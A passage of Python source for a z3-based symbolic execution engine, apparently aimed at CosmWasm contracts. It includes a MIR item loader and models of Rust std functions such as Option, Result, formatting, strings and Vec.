                if rec['adt'] not in self.adts or crate != 'white_whale_std':
                    self.adts[rec['adt']] = rec

    def get(self, name):
        """Fn for an item name, or None."""
        if name in self.parsed: return self.parsed[name]
        ent = self.items.get(name)
        if ent is None:
            self.parsed[name] = None; return None
        crate, rec, text = ent
        fn = mirparse.parse_item(text, crate)
        if fn is not None:
            fn.side = rec; fn.name = name
            fn.calls = {('bb%d' % c['bb']): c for c in rec.get('calls', [])}
            fn.closures = {}
            for c in rec.get('closures', []):
                fn.closures[('bb%d' % c['bb'], c['k'])] = c
            for idx, p in fn.promoted.items():
                p.side = {'name': '%s::promoted[%d]' % (name, idx)}; p.calls = {}; p.closures = {}
        self.parsed[name] = fn
        return fn

    def has(self, name): return name in self.items

    def find_norm(self, key):
        """item name whose generics-stripped form equals `key` (e.g. `<Vec as ToCoins>::to_coins` for the impl on Vec<Asset>)."""
        if not hasattr(self, '_norm_index'):
            from .core import norm
            self._norm_index = {}
            for n in self.items:
                if '<' in n: self._norm_index.setdefault(norm(n), n)
        return self._norm_index.get(key)

    def closure_by_span(self, span):
        """closure item whose first parameter type mentions this `{closure@file:l:c: l:c}` span."""
        if not self.by_closure_span:
            for name, (crate, rec, text) in self.items.items():
                if '{closure#' in name:
                    m = re.search(r'\{closure@[^}]*\}', text[:text.find('\n', text.find('\nfn ') + 1) if '\nfn ' in text else 400])
                    if m: self.by_closure_span.setdefault(m.group(0), name)
        return self.by_closure_span.get(span)


if __name__ == '__main__':
    t = time.time()
    crates = sys.argv[1:] or list(PACKAGES)
    p = Program(crates)
    print('regen %.1fs load %.1fs items %d adts %d' % (p.regen_s, time.time() - t - p.regen_s, len(p.items), len(p.adts)))
    bad = 0; t = time.time(); n = 0
    for name in p.items:
        try:
            p.get(name); n += 1
        except Exception as e:
            bad += 1
            if bad < 15: print('PARSE FAIL', name, repr(e)[:300])
    print('parsed %d items in %.1fs, %d failures' % (n, time.time() - t, bad))
