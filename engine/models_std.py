"""Models of core/alloc/std: Option/Result plumbing, iterators, Vec, String, maps, formatting, panics."""
import re
import z3
from .values import *
from .core import model, defmodel, MODELS, DEF_MODELS, CONSTS, norm, strip_generics

# ---------------------------------------------------------------- Try / ? --------------------------
@defmodel('std::ops::Try::branch', force=True)
def _try_branch(it, a, c):
    v = a[0]
    if v.variant in ('Ok', 'Some'): return Enum('std::ops::ControlFlow', 'Continue', [v.fields[0]])
    if v.variant == 'Err': return Enum('std::ops::ControlFlow', 'Break', [Enum('std::result::Result', 'Err', [v.fields[0]])])
    return Enum('std::ops::ControlFlow', 'Break', [NONE()])


@defmodel('std::ops::FromResidual::from_residual', force=True)
def _from_residual(it, a, c):
    v = a[0]
    if isinstance(v, Enum) and v.variant == 'Err':
        m = re.match(r'^<std::result::Result<(.*)> as std::ops::FromResidual<std::result::Result<std::convert::Infallible, (.*)>>>::from_residual$', c.inst)
        e = v.fields[0]
        if m:
            from .mirparse import split_top
            parts = split_top(m.group(1))
            dst = parts[-1] if parts else ''
            src = m.group(2)
            if norm(dst) != norm(src):
                e = convert_error(it, e, src, dst, c)
        return ERR(e)
    return NONE()


def convert_error(it, e, src, dst, c):
    """`From<src> for dst` used by `?`: run the real impl when it is in the loaded crates, else wrap by variant."""
    key = '<%s as std::convert::From<%s>>::from' % (dst, src)
    nk = norm(key)
    if it.prog.has(nk):
        return it.run(it.prog.get(nk), [e])
    h = MODELS.get(nk)
    if h is not None: return h(it, [e], c)
    dn = norm(dst)
    rec = it.prog.adts.get(dn)
    if rec and rec['kind'].lower() == 'enum':
        sn = norm(src)
        for v in rec['variants']:
            if len(v['fields']) == 1 and norm(v['fields'][0][1]) == sn:
                return Enum(dn, v['name'].split('::')[-1], [e])
    if dn == 'cosmwasm_std::StdError':
        return Opaque('StdError::from', e)
    return Opaque('from:' + dn, e)


# ---------------------------------------------------------------- clone / eq / default ------------
@defmodel('std::clone::Clone::clone', force=True)
def _clone(it, a, c): return dup(deref(a[0]))


@defmodel('std::borrow::ToOwned::to_owned', force=True)
def _to_owned(it, a, c): return dup(deref(a[0]))


def struct_eq(it, x, y):
    """structural equality as a python bool / z3 Bool (no forking)."""
    x = deref(x); y = deref(y)
    if isinstance(x, Str) != isinstance(y, Str):
        x = _bytes_to_str(x); y = _bytes_to_str(y)
    if isinstance(x, Str) or isinstance(y, Str):
        if isinstance(x, Agg) and x.name.endswith('Addr'): x = x.fields[0]
        if isinstance(y, Agg) and y.name.endswith('Addr'): y = y.fields[0]
        if x.sym is None and y.sym is None: return x.s == y.s
        return x.ident() == y.ident()
    if isinstance(x, Enum):
        if not isinstance(y, Enum) or x.variant != y.variant: return False
        return zand(*[struct_eq(it, p, q) for p, q in zip(x.fields, y.fields)])
    if isinstance(x, (Agg, Closure)):
        if len(x.fields) != len(y.fields): return False
        return zand(*[struct_eq(it, p, q) for p, q in zip(x.fields, y.fields)])
    if isinstance(x, VecV):
        if len(x.items) != len(y.items): return False
        return zand(*[struct_eq(it, p, q) for p, q in zip(x.items, y.items)])
    if isinstance(x, MapV):
        if len(x.pairs) != len(y.pairs): return False
        return zand(*[zand(struct_eq(it, p[0], q[0]), struct_eq(it, p[1], q[1])) for p, q in zip(x.pairs, y.pairs)])
    if isinstance(x, Opaque):
        if not isinstance(y, Opaque): return False
        if x.tag != y.tag: return False
        if x.payload is None or y.payload is None: return x.payload is y.payload
        return struct_eq(it, x.payload, y.payload)
    if x is None or y is None: return x is y
    if isinstance(x, bool) and isinstance(y, bool): return x == y
    if isinstance(x, bool) or isinstance(y, bool) or (is_sym(x) and z3.is_bool(x)) or (is_sym(y) and z3.is_bool(y)):
        return zbool(x) == zbool(y)
    r = x == y
    if is_sym(r):
        r = z3.simplify(r)
        if z3.is_true(r): return True
        if z3.is_false(r): return False
    return r


def _bytes_to_str(v):
    if isinstance(v, (VecV, Agg)) and not (isinstance(v, Agg) and v.name == 'cosmwasm_std::Addr'):
        items = v.items if isinstance(v, VecV) else v.fields
        if all(isinstance(b, int) and not isinstance(b, bool) for b in items): return Str(bytes(items).decode('latin1'))
    return v


@defmodel('std::cmp::PartialEq::eq')
def _eq(it, a, c): return struct_eq(it, a[0], a[1])


@defmodel('std::cmp::PartialEq::ne')
def _ne(it, a, c): return znot(struct_eq(it, a[0], a[1]))


def _refeq(it, a, c):
    # &A == &B delegates to the pointee's PartialEq (which may be a real body in the loaded crates)
    m = re.search(r'<impl std::cmp::PartialEq<&(.*)> for &(.*)>::(eq|ne)$', c.inst)
    if m:
        ty = m.group(2)
        key = norm('<%s as std::cmp::PartialEq>::%s' % (ty, m.group(3)))
        x, y = a[0], a[1]
        x = x.get() if isinstance(x, Ref) else x; y = y.get() if isinstance(y, Ref) else y
        h = MODELS.get(key)
        if h is not None: return h(it, [x, y], c)
        if it.prog.has(key): return it.run(it.prog.get(key), [x, y])
    r = struct_eq(it, a[0], a[1])
    return znot(r) if c.key.endswith('::ne') else r


# ---------------------------------------------------------------- panics --------------------------
def _fmt_text(v):
    v = deref(v)
    if isinstance(v, Opaque) and v.tag == 'fmtargs': return ''.join(t if isinstance(t, str) else '{}' for t in v.payload[0])
    if isinstance(v, Str): return v.s if v.s is not None else '<sym>'
    return repr(v)


@model('core::panicking::panic_fmt', 'std::rt::panic_fmt', 'core::panicking::panic_display')
def _panic_fmt(it, a, c): raise PanicPath('panic: ' + str(_fmt_text(a[0])))


@model('core::panicking::panic', 'core::panicking::panic_str', 'core::panicking::panic_explicit', 'core::panicking::unreachable_display',
       'core::panicking::panic_nounwind')
def _panic(it, a, c): raise PanicPath('panic: ' + (str(_fmt_text(a[0])) if a else ''))


@model('core::option::expect_failed', 'core::option::unwrap_failed', 'core::result::unwrap_failed',
       'core::panicking::panic_bounds_check', 'core::slice::index::slice_index_fail')
def _unwrap_failed(it, a, c): raise PanicPath('panic: ' + c.key.split('::')[-1])


@model('core::panicking::assert_failed')
def _assert_failed(it, a, c): raise PanicPath('panic: assertion failed')


@model('std::hint::must_use', 'std::convert::identity', 'std::hint::black_box')
def _ident(it, a, c): return a[0]


@model('std::mem::drop')
def _drop(it, a, c): return UNIT()


@model('std::mem::take')
def _take(it, a, c):
    v = a[0].get(); a[0].set(default_like(v)); return v


@model('std::mem::replace')
def _replace(it, a, c):
    v = a[0].get(); a[0].set(a[1]); return v


@model('std::mem::swap')
def _swap(it, a, c):
    x, y = a[0].get(), a[1].get(); a[0].set(y); a[1].set(x); return UNIT()


def default_like(v):
    if isinstance(v, VecV): return VecV([])
    if isinstance(v, Str): return Str('')
    if isinstance(v, Enum) and v.name == 'std::option::Option': return NONE()
    if isinstance(v, MapV): return MapV(v.kind, [])
    if isinstance(v, Agg) and len(v.fields) == 1 and not isinstance(v.fields[0], (Agg, Enum, VecV)): return Agg(v.name, [0])
    raise Unsupported('default_like %r' % (v,))


# ---------------------------------------------------------------- Option ---------------------------
def isS(v): return v.variant in ('Some', 'Ok')


@model('std::option::Option::unwrap', 'std::result::Result::unwrap', 'std::option::Option::expect', 'std::result::Result::expect',
       'std::option::Option::unwrap_unchecked', 'std::result::Result::unwrap_unchecked')
def _unwrap(it, a, c):
    if isS(a[0]): return a[0].fields[0]
    raise PanicPath('called `%s::%s()` on a `%s` value' % (a[0].name.split('::')[-1], c.key.split('::')[-1], a[0].variant))


@model('std::result::Result::unwrap_err', 'std::result::Result::expect_err')
def _unwrap_err(it, a, c):
    if a[0].variant == 'Err': return a[0].fields[0]
    raise PanicPath('called `Result::unwrap_err()` on an `Ok` value')


@model('std::option::Option::unwrap_or', 'std::result::Result::unwrap_or')
def _unwrap_or(it, a, c): return a[0].fields[0] if isS(a[0]) else a[1]


@model('std::option::Option::unwrap_or_else')
def _unwrap_or_else(it, a, c): return a[0].fields[0] if isS(a[0]) else it.call_closure(a[1], [])


@model('std::result::Result::unwrap_or_else')
def _res_unwrap_or_else(it, a, c): return a[0].fields[0] if isS(a[0]) else it.call_closure(a[1], [a[0].fields[0]])


@model('std::option::Option::unwrap_or_default', 'std::result::Result::unwrap_or_default')
def _unwrap_or_default(it, a, c):
    if isS(a[0]): return a[0].fields[0]
    m = re.search(r'(?:Option|Result)::<(.*)>::unwrap_or_default$', c.inst)
    from .mirparse import split_top
    ty = split_top(m.group(1))[0] if m else c.dest_ty
    return default_of(it, ty, c)


def default_of(it, ty, c=None):
    ty = ty.strip(); n = norm(ty)
    if ty in INTBITS: return 0
    if ty == 'bool': return False
    if n == 'std::string::String': return Str('')
    if n == 'std::vec::Vec': return VecV([])
    if n == 'std::option::Option': return NONE()
    if n in ('std::collections::HashMap', 'std::collections::BTreeMap'): return MapV(n.split('::')[-1], [])
    if n == '()': return UNIT()
    key = '<%s as std::default::Default>::default' % n
    h = MODELS.get(key)
    if h is not None: return h(it, [], c)
    if it.prog.has(key): return it.run(it.prog.get(key), [])
    raise Unsupported('default of ' + ty)


@defmodel('std::default::Default::default')
def _default(it, a, c):
    m = re.match(r'^<(.*) as std::default::Default>::default$', c.inst)
    if not m: raise Unsupported('default ' + c.inst)
    return default_of(it, m.group(1), c)


@model('std::option::Option::ok_or')
def _ok_or(it, a, c): return OK(a[0].fields[0]) if isS(a[0]) else ERR(a[1])
@model('std::option::Option::ok_or_else')
def _ok_or_else(it, a, c): return OK(a[0].fields[0]) if isS(a[0]) else ERR(it.call_closure(a[1], []))
@model('std::option::Option::map')
def _opt_map(it, a, c): return SOME(it.call_closure(a[1], [a[0].fields[0]])) if isS(a[0]) else NONE()
@model('std::option::Option::map_or')
def _opt_map_or(it, a, c): return it.call_closure(a[2], [a[0].fields[0]]) if isS(a[0]) else a[1]
@model('std::option::Option::map_or_else')
def _opt_map_or_else(it, a, c): return it.call_closure(a[2], [a[0].fields[0]]) if isS(a[0]) else it.call_closure(a[1], [])
@model('std::option::Option::and_then')
def _opt_and_then(it, a, c): return it.call_closure(a[1], [a[0].fields[0]]) if isS(a[0]) else NONE()
@model('std::option::Option::or')
def _opt_or(it, a, c): return a[0] if isS(a[0]) else a[1]
@model('std::option::Option::or_else')
def _opt_or_else(it, a, c): return a[0] if isS(a[0]) else it.call_closure(a[1], [])
@model('std::option::Option::filter')
def _opt_filter(it, a, c):
    if not isS(a[0]): return NONE()
    return a[0] if it.ctx.branch(it.call_closure(a[1], [Ref(a[0].fields, 0)]), 'filter') else NONE()
@model('std::option::Option::is_some', 'std::result::Result::is_ok')
def _is_some(it, a, c): return isS(deref(a[0]))
@model('std::option::Option::is_none', 'std::result::Result::is_err')
def _is_none(it, a, c): return not isS(deref(a[0]))
@model('std::option::Option::as_ref', 'std::result::Result::as_ref', 'std::option::Option::as_mut', 'std::option::Option::as_deref')
def _as_ref(it, a, c):
    v = deref(a[0])
    if isS(v): return Enum(v.name, v.variant, [Ref(v.fields, 0)])
    if v.variant == 'Err': return Enum(v.name, 'Err', [Ref(v.fields, 0)])
    return NONE()
@model('std::option::Option::cloned', 'std::option::Option::copied')
def _cloned(it, a, c): return SOME(dup(deref(a[0].fields[0]))) if isS(a[0]) else NONE()
@model('std::option::Option::take')
def _opt_take(it, a, c):
    v = a[0].get(); a[0].set(NONE()); return v
@model('std::option::Option::transpose')
def _transpose(it, a, c):
    v = a[0]
    if v.variant == 'None': return OK(NONE())
    inner = v.fields[0]
    if inner.variant == 'Ok': return OK(SOME(inner.fields[0]))
    return ERR(inner.fields[0])
@model('std::option::Option::zip')
def _opt_zip(it, a, c): return SOME(Agg('tuple', [a[0].fields[0], a[1].fields[0]])) if isS(a[0]) and isS(a[1]) else NONE()
@model('std::option::Option::unzip')
def _opt_unzip(it, a, c):
    if isS(a[0]): return Agg('tuple', [SOME(a[0].fields[0].fields[0]), SOME(a[0].fields[0].fields[1])])
    return Agg('tuple', [NONE(), NONE()])
@model('std::option::Option::get_or_insert_with')
def _goiw(it, a, c):
    v = a[0].get()
    if not isS(v):
        v = SOME(it.call_closure(a[1], [])); a[0].set(v)
    return Ref(v.fields, 0)
@model('std::option::Option::insert')
def _opt_insert(it, a, c):
    v = SOME(a[1]); a[0].set(v); return Ref(v.fields, 0)

# ---------------------------------------------------------------- Result ---------------------------
@model('std::result::Result::map')
def _res_map(it, a, c): return OK(it.call_closure(a[1], [a[0].fields[0]])) if a[0].variant == 'Ok' else a[0]
@model('std::result::Result::map_err')
def _res_map_err(it, a, c): return ERR(it.call_closure(a[1], [a[0].fields[0]])) if a[0].variant == 'Err' else a[0]
@model('std::result::Result::and_then')
def _res_and_then(it, a, c): return it.call_closure(a[1], [a[0].fields[0]]) if a[0].variant == 'Ok' else a[0]
@model('std::result::Result::or_else')
def _res_or_else(it, a, c): return it.call_closure(a[1], [a[0].fields[0]]) if a[0].variant == 'Err' else a[0]
@model('std::result::Result::ok')
def _res_ok(it, a, c): return SOME(a[0].fields[0]) if a[0].variant == 'Ok' else NONE()
@model('std::result::Result::err')
def _res_err(it, a, c): return SOME(a[0].fields[0]) if a[0].variant == 'Err' else NONE()
@model('std::result::Result::map_or')
def _res_map_or(it, a, c): return it.call_closure(a[2], [a[0].fields[0]]) if a[0].variant == 'Ok' else a[1]

# ---------------------------------------------------------------- closures -------------------------
@defmodel('std::ops::FnOnce::call_once', 'std::ops::FnMut::call_mut', 'std::ops::Fn::call', force=True)
def _call_once(it, a, c):
    args = deref(a[1]).fields if len(a) > 1 else []
    return it.call_closure(a[0], list(args))

# ---------------------------------------------------------------- conversions ----------------------
@defmodel('std::convert::Into::into')
def _into(it, a, c):
    m = re.match(r'^<(.+) as std::convert::Into<(.+)>>::into$', c.inst)
    if not m: raise Unsupported('into ' + c.inst)
    return generic_convert(it, a[0], m.group(1), m.group(2), c)


@defmodel('std::convert::From::from')
def _from(it, a, c):
    m = re.match(r'^<(.+) as std::convert::From<(.+)>>::from$', c.inst)
    if not m: raise Unsupported('from ' + c.inst)
    return generic_convert(it, a[0], m.group(2), m.group(1), c)


@defmodel('std::convert::TryInto::try_into')
def _try_into(it, a, c):
    from .models_num import _try_from
    return _try_from(it, a, c)


@defmodel('std::convert::AsRef::as_ref', 'std::borrow::Borrow::borrow', 'std::ops::Deref::deref', 'std::ops::DerefMut::deref_mut',
          'std::convert::AsMut::as_mut', 'std::borrow::BorrowMut::borrow_mut')
def _as_ref_generic(it, a, c):
    v = deref(a[0])
    if isinstance(v, Agg) and v.name in ('cosmwasm_std::Addr',): return Ref(v.fields, 0)
    if isinstance(v, Agg) and v.name == 'Box': return Ref(v.fields, 0)
    return a[0]


def generic_convert(it, v, src, dst, c):
    ns, nd = norm(src), norm(dst)
    if ns == nd: return v
    key = '<%s as std::convert::From<%s>>::from' % (dst, src)
    nk = norm(key)
    h = MODELS.get(nk)
    if h is not None and h not in (_from, _into): return h(it, [v], c)
    if it.prog.has(nk): return it.run(it.prog.get(nk), [v])
    if nd == 'std::string::String':
        x = deref(v)
        if isinstance(x, Str): return x
        if isinstance(x, Agg) and x.name == 'cosmwasm_std::Addr': return x.fields[0]
    if nd in ('std::vec::Vec',) and isinstance(deref(v), (Agg, VecV)):
        x = deref(v); return VecV(list(x.fields if isinstance(x, Agg) else x.items))
    if nd == 'std::boxed::Box': return Agg('Box', [v])
    if nd == 'cosmwasm_std::Binary':
        x = deref(v)
        if isinstance(x, VecV) or isinstance(x, Agg): return Agg('cosmwasm_std::Binary', [Opaque('bytes', x)])
    if nd == 'cosmwasm_std::CosmosMsg':
        s = ns.split('::')[-1]
        var = {'WasmMsg': 'Wasm', 'BankMsg': 'Bank'}.get(s)
        if var: return Enum('cosmwasm_std::CosmosMsg', var, [v])
    if nd == 'cosmwasm_std::QueryRequest':
        s = ns.split('::')[-1]
        var = {'WasmQuery': 'Wasm', 'BankQuery': 'Bank'}.get(s)
        if var: return Enum('cosmwasm_std::QueryRequest', var, [v])
    if nd == 'cosmwasm_std::SubMsg':
        return Agg('cosmwasm_std::SubMsg', [0, v, NONE(), Enum('cosmwasm_std::ReplyOn', 'Never', [])])
    if nd == 'cosmwasm_std::StdError' or ns == 'cosmwasm_std::StdError' or 'Error' in ns.split('::')[-1]:
        return convert_error(it, v, src, dst, c)
    from .models_num import convert
    return convert(it, v, src, dst, c)


# ---------------------------------------------------------------- strings & formatting --------------
def sval(v):
    v = deref(v)
    if isinstance(v, Agg) and v.name == 'cosmwasm_std::Addr': v = v.fields[0]
    if not isinstance(v, Str): raise Unsupported('not a string: %r' % (v,))
    return v


def render_parts(it, v, depth=0):
    """parts list (see Str.parts) of the Display text of a value, or None when not modelled."""
    v = deref(v)
    if isinstance(v, bool): return ['true' if v else 'false']
    if isinstance(v, int): return [str(v)]
    if is_sym(v): return [('int', v)] if not z3.is_bool(v) else None
    if isinstance(v, Str):
        if v.s is not None: return [v.s]
        return list(v.parts) if v.parts is not None else [v]
    if isinstance(v, Agg):
        n = v.name.split('::')[-1]
        if v.name.startswith('cosmwasm_std::') and n in ('Uint64', 'Uint128', 'Uint256', 'Uint512'):
            return [str(v.fields[0])] if not is_sym(v.fields[0]) else [('int', v.fields[0])]
        if v.name.startswith('cosmwasm_std::') and n in ('Decimal', 'Decimal256'):
            x = v.fields[0]
            if is_sym(x): return [('dec', x)]
            w, f = divmod(x, E18)
            return [str(w) if f == 0 else ('%d.%018d' % (w, f)).rstrip('0')]
        if v.name == 'cosmwasm_std::Addr': return render_parts(it, v.fields[0])
        if v.name == 'cosmwasm_std::Timestamp':
            x = v.fields[0].fields[0]
            if is_sym(x): return None
            return ['%d.%09d' % (x // 10**9, x % 10**9)]
        if v.name == 'cosmwasm_std::Coin':
            a = render_parts(it, v.fields[1]); d = render_parts(it, v.fields[0])
            return a + d if a is not None and d is not None else None
    # user Display impl in the loaded crates: run the real `fmt` body against a collecting Formatter
    if isinstance(v, (Agg, Enum)) and depth < 4:
        key = '<%s as std::fmt::Display>::fmt' % v.name
        if it.prog.has(key):
            buf = []
            f = Opaque('formatter', buf)
            try:
                r = it.run(it.prog.get(key), [Ref([v], 0), Ref([f], 0)])
            except Unsupported:
                return None
            if any(x is None for x in buf): return None
            out = []
            for x in buf: out.extend(x)
            return out
    return None


def parts_to_str(it, parts):
    if parts is None: return Str(None, sym=it.ctx.fresh('str'))
    merged = []
    for p in parts:
        if isinstance(p, str) and merged and isinstance(merged[-1], str): merged[-1] += p
        else: merged.append(p)
    if all(isinstance(p, str) for p in merged): return Str(''.join(merged))
    if len(merged) == 1 and isinstance(merged[0], Str): return merged[0]
    return Str(None, sym=it.ctx.fresh('str'), parts=merged)


def render(it, v):
    """text of a Display-able value if everything in it is concrete, else None."""
    p = render_parts(it, v)
    if p is None or not all(isinstance(x, str) for x in p): return None
    return ''.join(p)


def to_string(it, v):
    return parts_to_str(it, render_parts(it, v))


@defmodel('std::string::ToString::to_string')
def _to_string(it, a, c): return to_string(it, a[0])


@model('core::fmt::rt::Argument::new_display', 'core::fmt::rt::Argument::new_debug', 'core::fmt::rt::Argument::new_lower_hex')
def _fmt_arg(it, a, c):
    v = deref(a[0])
    if '::<char>' in c.inst and isinstance(v, int) and not isinstance(v, bool): v = Str(chr(v))
    return Opaque('fmtarg' if c.key.endswith('display') else 'fmtarg_dbg', v)


def _decode_template(tpl, args):
    """rustc's compact fmt::Arguments template -> list of literal str | ('arg', index)."""
    out = []; i = 0; ai = 0
    while True:
        n = tpl[i]; i += 1
        if n == 0: return out
        if n < 0x80:
            out.append(bytes(tpl[i:i + n]).decode()); i += n
        elif n == 0x80:
            ln = tpl[i] | (tpl[i + 1] << 8); i += 2
            out.append(bytes(tpl[i:i + ln]).decode()); i += ln
        elif n == 0xC0:
            out.append(('arg', ai, True)); ai += 1
        else:
            plain = True
            if n & 1: plain = plain and tpl[i:i + 4] == [0, 0, 0, 0]; i += 4   # flags
            if n & 2: plain = False; i += 2
            if n & 4: plain = False; i += 2
            if n & 8: ai = tpl[i] | (tpl[i + 1] << 8); i += 2
            out.append(('arg', ai, plain)); ai += 1


@model('std::fmt::Arguments::new')
def _fmt_args_new(it, a, c):
    tpl = deref(a[0]); args = deref(a[1])
    return Opaque('fmtargs', (_decode_template(list(tpl.fields), args.fields), list(args.fields)))


@model('std::fmt::Arguments::from_str', 'std::fmt::Arguments::from_str_nonconst', 'std::fmt::Arguments::new_const')
def _fmt_args_str(it, a, c):
    s = deref(a[0])
    if isinstance(s, Agg): s = deref(s.fields[0])
    return Opaque('fmtargs', ([s.s], []))


def fmtargs_parts(it, fa):
    tpl, args = fa.payload
    out = []
    for t in tpl:
        if isinstance(t, str): out.append(t); continue
        arg = args[t[1]]
        if not t[2] or not isinstance(arg, Opaque) or arg.tag != 'fmtarg': return None
        p = render_parts(it, arg.payload)
        if p is None: return None
        out.extend(p)
    return out


@model('std::fmt::format', 'alloc::fmt::format', 'std::fmt::format::format_inner')
def _format(it, a, c):
    x = deref(a[0])
    if isinstance(x, Opaque) and x.tag == 'fmtargs': return parts_to_str(it, fmtargs_parts(it, x))
    return Str(None, sym=it.ctx.fresh('fmt'))


@model('std::fmt::Formatter::write_fmt')
def _fmt_write_fmt(it, a, c):
    f = deref(a[0]); x = deref(a[1])
    if isinstance(f, Opaque) and f.tag == 'formatter':
        f.payload.append(fmtargs_parts(it, x) if isinstance(x, Opaque) and x.tag == 'fmtargs' else None)
    return OK(UNIT())


@model('std::fmt::Formatter::write_str', 'std::fmt::Formatter::pad', '<str as std::fmt::Display>::fmt', '<std::string::String as std::fmt::Display>::fmt')
def _fmt_write_str(it, a, c):
    if c.key.endswith('Display>::fmt'): f = deref(a[1]); s = a[0]
    else: f = deref(a[0]); s = a[1]
    if isinstance(f, Opaque) and f.tag == 'formatter': f.payload.append(render_parts(it, s))
    return OK(UNIT())


def _display_fmt(it, a, c):
    f = deref(a[1])
    if isinstance(f, Opaque) and f.tag == 'formatter': f.payload.append(render_parts(it, a[0]))
    return OK(UNIT())
DEF_MODELS['std::fmt::Display::fmt'] = _display_fmt


@model('std::string::String::new')
def _string_new(it, a, c): return Str('')
@model('std::string::String::as_str', 'std::string::String::as_bytes', 'core::str::<impl str>::as_bytes', 'std::string::String::as_mut_str',
       'cosmwasm_std::Addr::as_str', 'cosmwasm_std::Addr::as_bytes', '<std::string::String as std::ops::Deref>::deref')
def _as_str(it, a, c):
    v = deref(a[0])
    if isinstance(v, Agg) and v.name == 'cosmwasm_std::Addr': return Ref(v.fields, 0)
    return a[0] if isinstance(a[0], Ref) else Ref([v], 0)
@model('std::string::String::len', 'core::str::<impl str>::len')
def _str_len(it, a, c):
    s = sval(a[0])
    if s.s is None: raise Unsupported('len of symbolic string')
    return len(s.s.encode())
@model('std::string::String::is_empty', 'core::str::<impl str>::is_empty')
def _str_is_empty(it, a, c):
    s = sval(a[0])
    if s.s is None: return s.ident() == Str('').ident()
    return len(s.s) == 0
@model('<std::string::String as std::cmp::PartialEq>::eq', '<str as std::cmp::PartialEq>::eq', '<cosmwasm_std::Addr as std::cmp::PartialEq>::eq',
       '<std::string::String as std::cmp::PartialEq<str>>::eq', '<std::string::String as std::cmp::PartialEq<&str>>::eq')
def _str_eq(it, a, c): return struct_eq(it, a[0], a[1])
@model('<std::string::String as std::cmp::PartialEq>::ne', '<str as std::cmp::PartialEq>::ne', '<cosmwasm_std::Addr as std::cmp::PartialEq>::ne')
def _str_ne(it, a, c): return znot(struct_eq(it, a[0], a[1]))
@model('<str as std::string::ToString>::to_string', '<std::string::String as std::string::ToString>::to_string',
       '<cosmwasm_std::Addr as std::string::ToString>::to_string', 'cosmwasm_std::Addr::into_string', 'cosmwasm_std::Addr::to_string',
       '<&std::string::String as std::string::ToString>::to_string', '<&str as std::string::ToString>::to_string',
       'std::string::String::from', '<std::string::String as std::convert::From<&str>>::from', 'core::str::<impl str>::to_string',
       'std::str::<impl str>::to_owned', 'core::str::<impl str>::to_owned', 'std::string::String::into_boxed_str', 'std::str::<impl str>::to_lowercase')
def _str_to_string(it, a, c): return sval(a[0])
@model('cosmwasm_std::Addr::unchecked')
def _addr_unchecked(it, a, c): return ADDR(sval(a[0]))
@model('std::string::String::push_str', 'std::string::String::insert_str')
def _push_str(it, a, c):
    s = deref(a[0]); t = sval(a[-1])
    if s.s is None or t.s is None: a[0].set(Str(None, sym=it.ctx.fresh('cat')))
    else: a[0].set(Str(s.s + t.s if c.key.endswith('push_str') else s.s[:a[1]] + t.s + s.s[a[1]:]))
    return UNIT()
@model('std::slice::<impl [std::string::String]>::join', 'std::slice::<impl [&str]>::join', 'std::slice::<impl [std::string::String]>::concat')
def _join(it, a, c):
    parts = [sval(x) for x in seq(a[0])]
    sep = sval(a[1]).s if len(a) > 1 else ''
    if any(p.s is None for p in parts): return Str(None, sym=it.ctx.fresh('join'))
    return Str(sep.join(p.s for p in parts))
@model('core::str::<impl str>::starts_with')
def _starts_with(it, a, c):
    s = sval(a[0]); p = deref(a[1])
    if s.s is None or not isinstance(p, Str) or p.s is None: raise Unsupported('starts_with on symbolic string')
    return s.s.startswith(p.s)
@model('core::str::<impl str>::strip_prefix')
def _strip_prefix(it, a, c):
    s = sval(a[0]); p = deref(a[1])
    if s.s is None or p.s is None: raise Unsupported('strip_prefix on symbolic string')
    return SOME(Ref([Str(s.s[len(p.s):])], 0)) if s.s.startswith(p.s) else NONE()
@model('core::str::<impl str>::splitn', 'core::str::<impl str>::split')
def _splitn(it, a, c):
    if c.key.endswith('splitn'): n, s, p = a[1], sval(a[0]), deref(a[2])
    else: n, s, p = -1, sval(a[0]), deref(a[1])
    if isinstance(p, int): p = Str(chr(p))
    if s.s is None: raise Unsupported('split of symbolic string')
    parts = s.s.split(p.s, n - 1) if n > 0 else s.s.split(p.s)
    return IterV([Ref([Str(x)], 0) for x in parts])
@model('core::str::<impl str>::chars')
def _chars(it, a, c):
    s = sval(a[0])
    if s.s is None: raise Unsupported('chars of symbolic string')
    return IterV([ord(ch) for ch in s.s])
@model('core::str::<impl str>::parse')
def _parse(it, a, c):
    m = re.search(r'parse::<(.*)>$', c.inst)
    ty = norm(m.group(1)) if m else ''
    s = sval(a[0])
    h = MODELS.get('<%s as std::str::FromStr>::from_str' % ty)
    if h is not None: return h(it, a, c)
    if ty in INTBITS:
        if s.s is None: raise Unsupported('parse of symbolic string')
        return OK(int(s.s)) if s.s.isdigit() else ERR(Opaque('ParseIntError'))
    raise Unsupported('parse::<%s>' % ty)


# ---------------------------------------------------------------- Vec / slices / arrays -------------
def seq(v):
    v = deref(v)
    if isinstance(v, VecV): return v.items
    if isinstance(v, Agg): return v.fields
    if isinstance(v, IterV): return v.rest()
    raise Unsupported('seq of %r' % (v,))


@model('std::vec::Vec::new', 'std::vec::Vec::with_capacity')
def _vec_new(it, a, c): return VecV([])
@model('std::vec::Vec::push')
def _vec_push(it, a, c):
    tgt = deref(a[0])
    if isinstance(tgt, Str):                 # a byte string kept as text: append one concrete byte
        if tgt.s is None or is_sym(a[1]): raise Unsupported('push on a symbolic byte string')
        r = a[0]
        while isinstance(r.get(), Ref): r = r.get()
        extra = Str(chr(a[1]))
        r.set(Str(tgt.s + chr(a[1]), canon=((list(tgt.canon) if isinstance(tgt.canon, list) else [tgt]) + [extra]) if tgt.canon else None))
        return UNIT()
    tgt.items.append(a[1]); return UNIT()
@model('std::vec::Vec::pop')
def _vec_pop(it, a, c):
    l = deref(a[0]).items
    return SOME(l.pop()) if l else NONE()
@model('std::vec::Vec::len', 'core::slice::<impl [T]>::len')
def _vec_len(it, a, c): return len(seq(a[0]))
@model('std::vec::Vec::is_empty', 'core::slice::<impl [T]>::is_empty')
def _vec_is_empty(it, a, c): return len(seq(a[0])) == 0
@model('std::vec::Vec::clear')
def _vec_clear(it, a, c): del deref(a[0]).items[:]; return UNIT()
@model('std::vec::Vec::append')
def _vec_append(it, a, c):
    src = deref(a[1]); deref(a[0]).items.extend(src.items); src.items = []; return UNIT()
@model('std::vec::Vec::extend_from_slice')
